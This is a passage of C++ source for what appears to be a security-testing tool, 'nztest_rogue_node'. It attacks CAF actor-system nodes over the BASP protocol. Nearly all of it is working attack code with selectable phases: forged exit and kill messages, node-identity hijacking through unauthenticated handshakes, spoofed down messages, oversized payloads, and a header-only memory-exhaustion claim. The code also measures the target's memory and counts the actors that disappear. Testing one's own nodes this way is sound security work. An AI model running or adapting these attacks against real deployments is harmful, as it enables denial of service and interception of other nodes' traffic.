  say("route: sent an exit_msg to ids ", o.first, "-", o.last, " of node ",
      caf::to_string(other), " through the target");
  result("route sent=", n, " via=target to=", caf::to_string(other));
}

void phase_system(caf::actor_system& sys, const target& b, const caf::actor& me,
                  const std::string& kind, const options& o) {
  size_t n = 0;
  for (auto aid = o.first; aid <= o.last; ++aid) {
    caf::message m;
    if (kind == "error")
      m = caf::make_message(caf::make_error(caf::sec::runtime_error, "rogue"));
    else if (kind == "exit")
      m = caf::make_message(caf::exit_msg{me.address(), caf::exit_reason::user_shutdown});
    else
      m = caf::make_message(caf::exit_msg{me.address(), caf::exit_reason::kill});
    send_to(sys, b.node, aid, nullptr, caf::make_message_id(), m);
    ++n;
  }
  std::this_thread::sleep_for(std::chrono::milliseconds(o.settle_ms));
  say(kind, ": sent to ids ", o.first, "-", o.last);
  result(kind, " sent=", n);
}

void phase_configserv(caf::actor_system& sys, const target& b, const options& o) {
  auto bb = sys.middleman().named_broker<caf::io::basp_broker>(caf::atom("BASP"));
  caf::scoped_actor self{sys};
  long before = rss_kib(o.watch_pid);
  const size_t keys = 32;
  const size_t value_len = size_t{1} << 20;
  for (size_t i = 0; i < keys; ++i)
    self->send(bb, caf::forward_atom::value, b.node, caf::atom("ConfigServ"),
               caf::make_message(caf::put_atom::value, "rogue." + std::to_string(i),
                                 caf::make_message(random_bytes(value_len))));
  std::string outcome = "unreachable";
  self->request(bb, 5s, caf::forward_atom::value, b.node, caf::atom("ConfigServ"),
                caf::make_message(caf::get_atom::value, std::string{"rogue.0"}))
      .receive(
          [&](std::string& key, caf::message& value) {
            outcome = value.empty() ? "empty" : "stored";
            say("configserv: get ", key, " -> ", clip(caf::to_string(value), 80));
          },
          [&](caf::error& e) { say("configserv: get failed: ", caf::to_string(e)); });
  std::this_thread::sleep_for(500ms);
  long after = rss_kib(o.watch_pid);
  say("configserv: put ", keys, " x 1 MiB; target VmRSS ", before, " -> ", after, " KiB");
  result("configserv outcome=", outcome, " rss_growth_kib=", after - before);
}

void phase_spawn(caf::actor_system& sys, const target& b) {
  std::string outcome = "refused";
  for (std::string name : {"nz.peer_session", "nz.operator", "nz.storage", "rogue"}) {
    auto res = sys.middleman().remote_spawn<caf::actor>(b.node, name, caf::make_message(),
                                                        std::chrono::seconds(5));
    if (res) {
      say("spawn: '", name, "' SPAWNED on the target as actor ", res->id());
      outcome = "spawned";
      caf::anon_send_exit(*res, caf::exit_reason::user_shutdown);
    } else {
      say("spawn: '", name, "' refused: ", sys.render(res.error()));
    }
  }
  result("spawn outcome=", outcome);
}

void phase_big(caf::actor_system& sys, target& b, const caf::actor& me,
               const options& o) {
  long before = rss_kib(o.watch_pid);
  std::atomic<long> peak{before};
  std::atomic<bool> sampling{true};
  std::thread sampler{[&] {
    while (sampling) {
      peak = std::max(peak.load(), rss_kib(o.watch_pid));
      std::this_thread::sleep_for(20ms);
    }
  }};
  auto big = bytes(o.big_mib << 20, 0x42);
  auto t0 = std::chrono::steady_clock::now();
  send_to(sys, b.node, b.gate->id(), caf::actor_cast<caf::strong_actor_ptr>(me),
          caf::make_message_id(), caf::make_message(nz::peer_hello_atom::value, big, me));
  big.clear();
  big.shrink_to_fit();
  // The gate starts our next handshake only after it took the big message from
  // its mailbox (same connection, same order): an answer means it survived.
  std::string node_id;
  auto verdict = run_handshake(sys, b, 0, o, node_id);
  auto ms = std::chrono::duration_cast<std::chrono::milliseconds>(
                std::chrono::steady_clock::now() - t0)
                .count();
  sampling = false;
  sampler.join();
  bool alive = verdict != "no-answer";
  say("big: sent a ", o.big_mib,
      " MiB peer_hello to the gate; a handshake after it: ", verdict, " (", ms,
      " ms); target VmRSS ", before, " -> peak ", peak.load(), " KiB");
  result("big mib=", o.big_mib, " gate_alive_after=", alive ? "yes" : "no",
         " rss_growth_kib=", peak.load() - before);
}

/// A BASP client written by hand: it says whatever it likes in the BASP
/// headers and payloads, which CAF's own middleman never would.
class raw_basp {
 public:
  explicit raw_basp(caf::actor_system& sys) : sys_(sys) {}
  ~raw_basp() {
    if (fd_ >= 0) ::close(fd_);
  }

  /// Connects and reads the server handshake.
  bool open(const endpoint& e) {
    fd_ = ::socket(AF_INET, SOCK_STREAM, 0);
    sockaddr_in sa{};
    sa.sin_family = AF_INET;
    sa.sin_port = htons(e.port);
    ::inet_pton(AF_INET, e.host.c_str(), &sa.sin_addr);
    timeval tv{3, 0};
    ::setsockopt(fd_, SOL_SOCKET, SO_RCVTIMEO, &tv, sizeof(tv));
    if (fd_ < 0 || ::connect(fd_, reinterpret_cast<sockaddr*>(&sa), sizeof(sa)) != 0)
      return false;
    std::vector<char> hdr_buf(caf::io::basp::header_size);
    if (!read_all(hdr_buf)) return false;
    caf::io::basp::header hdr;
    caf::binary_deserializer hd{sys_, hdr_buf};
    if (hd(hdr) || hdr.payload_len > (1u << 20)) return false;
    std::vector<char> payload(hdr.payload_len);
    return read_all(payload);
  }

  /// Sends one BASP message: the header (payload_len filled in) and payload.
  template <class... Ts>
  bool send(caf::io::basp::header hdr, Ts&&... xs) {
    std::vector<char> payload;
    if constexpr (sizeof...(Ts) > 0) {
      caf::binary_serializer ps{sys_, payload};
      if (ps(xs...)) return false;
    }
    hdr.payload_len = static_cast<uint32_t>(payload.size());
    std::vector<char> buf;
    caf::binary_serializer hs{sys_, buf};
    if (hs(hdr)) return false;
    buf.insert(buf.end(), payload.begin(), payload.end());
    return ::send(fd_, buf.data(), buf.size(), MSG_NOSIGNAL)
           == static_cast<ssize_t>(buf.size());
  }

  /// Reads and discards whatever arrives for `ms` milliseconds; bytes read.
  size_t drain(int ms) {
    size_t total = 0;
    timeval tv{0, 100 * 1000};
    ::setsockopt(fd_, SOL_SOCKET, SO_RCVTIMEO, &tv, sizeof(tv));
    auto deadline = std::chrono::steady_clock::now() + std::chrono::milliseconds(ms);
    char buf[65536];
    while (std::chrono::steady_clock::now() < deadline) {
      auto n = ::recv(fd_, buf, sizeof(buf), 0);
      if (n > 0)
        total += static_cast<size_t>(n);
      else if (n == 0)
        break;
    }
    return total;
  }

 private:
  bool read_all(std::vector<char>& buf) {
    size_t got = 0;
    while (got < buf.size()) {
      auto n = ::recv(fd_, buf.data() + got, buf.size() - got, 0);
      if (n <= 0) return false;
      got += static_cast<size_t>(n);
    }
    return true;
  }

  caf::actor_system& sys_;
  int fd_ = -1;
};

using caf::io::basp::header;
using caf::io::basp::message_type;

/// A raw BASP client claims to be --other (node ids are not authenticated):
/// its connection becomes B's route to A (select_connection_flag), so B's
/// messages for A, sealed frames included, go to the rogue, which drops them.
void phase_hijack(caf::actor_system& sys, const target& b, const target& a,
                  const options& o) {
  raw_basp raw{sys};
  if (!raw.open(o.peer)) {
    result("hijack outcome=failed");
    return;
  }
  caf::node_id as_a = a.node;
  bool ok = raw.send(header{message_type::client_handshake, 0, 0, 0, 0, 0}, as_a)
            && raw.send(header{message_type::client_handshake,
                               header::select_connection_flag, 0, 0, 0, 0},
                        as_a);
  auto swallowed = raw.drain(o.hold_ms);
  say("hijack: claimed node ", caf::to_string(a.node), " on a raw BASP connection to ",
      caf::to_string(b.node), "; swallowed ", swallowed, " bytes meant for it in ",
      o.hold_ms, " ms");
  result("hijack outcome=", ok ? "sent" : "failed", " swallowed_bytes=", swallowed);
}

/// A raw BASP down_message naming every reachable actor of --other as its
/// source: B kills its proxies for them, and whoever monitors them (B's session
/// monitors its peer session) gets a down_msg from a local proxy.
void phase_basp_down(caf::actor_system& sys, const target& b, const target& a,
                     const options& o) {
  raw_basp raw{sys};
  auto me = caf::make_node_id(
      static_cast<uint32_t>(::getpid() + 100000),
      static_cast<const caf::node_id::default_data&>(*sys.node()).host_id());
  if (!raw.open(o.peer)
      || !raw.send(header{message_type::client_handshake, 0, 0, 0, 0, 0}, me)) {
    result("basp-down outcome=failed");
    return;
  }
  size_t n = 0;
  for (auto& [aid, name] : a.alive) {
    caf::node_id src = a.node;
    caf::node_id dst = b.node;
    caf::error reason = caf::exit_reason::remote_link_unreachable;
    if (raw.send(header{message_type::down_message, 0, 0, 0, aid, 0}, src, dst, reason))
      ++n;
  }
  raw.drain(o.settle_ms);
  say("basp-down: ", n, " BASP down messages naming actors of ", caf::to_string(a.node));
  result("basp-down sent=", n);
}

/// A raw TCP client that only sends one BASP header announcing a huge payload,
/// then holds the connection: CAF 0.17.6 sizes the receive buffer to the
/// announced length before reading a byte of it (or any handshake).
void phase_claim(caf::actor_system& sys, const options& o) {
  int fd = ::socket(AF_INET, SOCK_STREAM, 0);
  sockaddr_in sa{};
  sa.sin_family = AF_INET;
  sa.sin_port = htons(o.peer.port);
  ::inet_pton(AF_INET, o.peer.host.c_str(), &sa.sin_addr);
  if (fd < 0 || ::connect(fd, reinterpret_cast<sockaddr*>(&sa), sizeof(sa)) != 0) {
    say("claim: cannot connect");
    if (fd >= 0) ::close(fd);
    result("claim outcome=failed");
    return;
  }
  long before = rss_kib(o.watch_pid);
  auto claim = std::min<size_t>(o.claim_mib << 20, 0xFFFFFFFFu);
  caf::io::basp::header hdr{caf::io::basp::message_type::client_handshake,
                            0,
                            static_cast<uint32_t>(claim),
                            0,
                            0,
                            0};
  std::vector<char> buf;
  caf::binary_serializer bs{sys, buf};
  if (auto err = bs(hdr)) {
    say("claim: cannot serialize the header");
    ::close(fd);
    return;
  }
  auto sent = ::send(fd, buf.data(), buf.size(), MSG_NOSIGNAL);
  long peak = before;
  auto deadline = std::chrono::steady_clock::now() + std::chrono::milliseconds(o.hold_ms);
  while (std::chrono::steady_clock::now() < deadline) {
    peak = std::max(peak, rss_kib(o.watch_pid));
    std::this_thread::sleep_for(50ms);
  }
  ::close(fd);
  say("claim: sent one ", sent, "-byte header announcing ", claim >> 20,
      " MiB and nothing else; target VmRSS ", before, " -> peak ", peak, " KiB");
  result("claim mib=", claim >> 20, " rss_growth_kib=", peak - before);
}

int run(caf::actor_system& sys, const options& o) {
  auto gate = sys.middleman().remote_actor<nz::peer_gate_actor>(o.peer.host, o.peer.port);
  if (!gate) {
    say("cannot reach the peer gate at ", o.peer.host, ":", o.peer.port, ": ",
        sys.render(gate.error()));
    return 2;
  }
  target b;
  b.node = gate->node();
  b.gate = caf::actor_cast<caf::strong_actor_ptr>(*gate);
  say("connected to ", o.peer.host, ":", o.peer.port, ": node ", caf::to_string(b.node),
      ", peer gate is actor ", b.gate->id());
  auto t = std::make_shared<tally>();
  auto me = caf::actor_cast<caf::actor>(sys.spawn<collector_actor>(t));
  caf::anon_send(me, caf::ok_atom::value);  // a local message: not from the network
  b.alive = census(sys, b.node, b.gate, o, "enumerate");
  result("reachable node=target count=", b.alive.size(), " actors=", id_list(b.alive));
  std::optional<target> a;
  for (auto& phase : o.phases) {
    say("== phase ", phase);
    if (phase == "content") {
      phase_content(sys, b, me, o);
    } else if (phase == "handshake" || phase == "forge") {
      std::string node_id;
      auto v = run_handshake(sys, b, phase == "forge" ? 8 : 0, o, node_id);
      result(phase, " verdict=", v, " node_id=", node_id);
    } else if (phase == "spoof-local") {
      phase_spoof_local(sys, b, o);
    } else if (phase == "lockout") {
      phase_lockout(sys, b, me, o);
    } else if (phase == "route") {
      phase_route(sys, b, o);
    } else if (phase == "link") {
      phase_link(sys, b, o);
    } else if (phase == "reflect") {
      phase_reflect(sys, b, b, "reflect", o);
    } else if (phase == "spoof-abort" || phase == "spoof-down" || phase == "reflect-other"
               || phase == "hijack" || phase == "basp-down") {
      if (!o.other) {
        say(phase, ": needs --other");
        continue;
      }
      if (!a) {
        auto g = sys.middleman().remote_actor<nz::peer_gate_actor>(o.other->host,
                                                                   o.other->port);
        if (!g) {
          say(phase, ": cannot reach --other: ", sys.render(g.error()));
          continue;
        }
        a.emplace();
        a->node = g->node();
        a->gate = caf::actor_cast<caf::strong_actor_ptr>(*g);
        say("other node ", caf::to_string(a->node));
        a->alive = census(sys, a->node, a->gate, o, "other");
        result("reachable node=other count=", a->alive.size(),
               " actors=", id_list(a->alive));
      }
      if (phase == "reflect-other")
        phase_reflect(sys, b, *a, "reflect-other", o);
      else if (phase == "hijack")
        phase_hijack(sys, b, *a, o);
      else if (phase == "basp-down")
        phase_basp_down(sys, b, *a, o);
      else
        phase_spoof_remote(sys, b, *a, phase == "spoof-down", o);
    } else if (phase == "configserv") {
      phase_configserv(sys, b, o);
    } else if (phase == "spawn") {
      phase_spawn(sys, b);
    } else if (phase == "big") {
      phase_big(sys, b, me, o);
    } else if (phase == "claim") {
      phase_claim(sys, o);
    } else if (phase == "error" || phase == "exit" || phase == "kill") {
      phase_system(sys, b, me, phase, o);
    } else {
      say("unknown phase ", phase);
      continue;
    }
    // What the phase took away, on the target and on --other.
    auto report_gone = [&](target& t, const char* who) {
      auto after = census(sys, t.node, t.gate, o, who);
      std::map<uint64_t, std::string> gone;
      for (auto& [aid, name] : t.alive)
        if (!after.count(aid)) gone.emplace(aid, name);
      result("gone phase=", phase, " node=", who, " before=", t.alive.size(),
             " after=", after.size(), " count=", gone.size(), " actors=", id_list(gone));
      t.alive = std::move(after);
    };
    report_gone(b, "target");
    if (a) report_gone(*a, "other");
  }
  std::this_thread::sleep_for(200ms);
  {
    std::lock_guard<std::mutex> guard{t->mtx};
    std::ostringstream os;
    for (auto& [k, v] : t->by_kind) os << " [" << k << "]=" << v;
    result("replies total=", t->total, os.str());
    result("collector enqueued_from_network=", t->from_network,
           " enqueued_from_elsewhere=", t->from_elsewhere);
  }
  caf::anon_send_exit(me, caf::exit_reason::kill);
  return 0;
}

}  // namespace

int main(int argc, char** argv) {
  auto o = parse(argc, argv);
  if (!o) {
    std::cerr << "usage: nztest_rogue_node --peer HOST:PORT [--other HOST:PORT] "
                 "[--phases content,handshake,forge,spoof-local,reflect,reflect-other,"
                 "spoof-abort,spoof-down,hijack,basp-down,link,route,lockout,"
                 "configserv,spawn,big,claim,error,exit,kill] [--ids FIRST-LAST] "
                 "[--watch-pid PID] [--route-pid PID] [--lockout-client NAME] [--big-mib "
                 "N] [--claim-mib N] "
                 "[--hold-ms N] "
                 "[--settle-ms N]\n";
    return 64;
  }
  if (sodium_init() < 0) return 1;
  caf::actor_system_config cfg;
  nz::register_types(cfg);
  cfg.load<caf::io::middleman>();
  cfg.set("middleman.workers", 0);
  // Whatever the node announces: app identifiers are no access control.
  auto ids = peek_app_ids(o->peer);
  ids.emplace_back("generic-caf-app");
  cfg.set("middleman.app-identifiers", ids);
  cfg.set("scheduler.max-threads", 2);
  cfg.set("logger.verbosity", caf::atom("quiet"));
  int rc = 0;
  {
    caf::actor_system sys{cfg};
    rc = run(sys, *o);
    say("done");
  }
  return rc;
}
